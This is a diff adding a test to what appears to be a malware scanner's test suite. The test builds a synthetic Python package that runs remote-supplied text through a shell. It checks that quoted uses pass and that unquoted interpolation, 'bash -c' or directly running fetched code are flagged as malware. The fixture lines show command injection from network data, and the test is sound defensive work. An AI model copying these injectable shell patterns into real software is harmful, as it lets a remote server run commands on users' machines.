@@ -655,3 +655,29 @@ test.each([
 
   expect(Math.max(...findings.map((f) => f.score))).toBe(score);
 });
+
+test('what was received and is quoted for its place in a line gives no order, unquoted or before a program that takes orders it does', async () => {
+  const of = (line: string): Promise<readonly Finding[]> =>
+    inspect(
+      'remote-code',
+      wheel({
+        'pkg/__init__.py': python(
+          'import json, shlex, subprocess',
+          'from urllib.parse import urlencode',
+          'def ask(line):',
+          '    return json.loads(subprocess.run(line, shell=True, capture_output=True).stdout)',
+          'def login():',
+          "    code = ask('curl https://id.vendor.invalid/code')['code']",
+          `    return ask(${line})`,
+        ),
+      }),
+    );
+
+  expect(await of("'curl -d \"%s\" https://id.vendor.invalid/poll' % urlencode({'code': code})")).toEqual([]);
+  expect(await of("'curl https://id.vendor.invalid/' + shlex.quote(code)")).toEqual([]);
+  expect(await of('\'curl -d "%s" https://id.vendor.invalid/poll\' % code')).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+  expect(await of("'bash -c ' + shlex.quote(code)")).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(await of('shlex.quote(code)')).toMatchObject([{ class: 'malware', score: 10 }]);
+});
